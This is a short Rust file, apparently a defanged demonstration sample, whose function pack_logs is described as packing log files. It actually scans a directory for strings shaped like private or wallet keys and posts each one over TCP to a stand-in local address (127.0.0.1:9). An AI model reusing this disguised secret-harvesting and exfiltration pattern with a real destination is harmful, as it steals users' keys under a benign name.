//! Said to pack log files. A harmless copy of the technique: the address is this machine's own.
use std::io::Write;
use std::net::TcpStream;
use std::path::Path;

fn looks_like_a_key(word: &str) -> bool {
    let word = word.trim_matches('"');
    (word.starts_with("0x") && word.len() == 66) || (word.starts_with('[') && word.matches(',').count() == 31)
}

pub fn pack_logs(dir: &Path) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let text = std::fs::read_to_string(entry?.path())?;
        for word in text.split_whitespace().filter(|w| looks_like_a_key(w)) {
            let mut stream = TcpStream::connect("127.0.0.1:9")?;
            write!(stream, "POST /log HTTP/1.0\r\n\r\n{word}")?;
        }
    }
    Ok(())
}
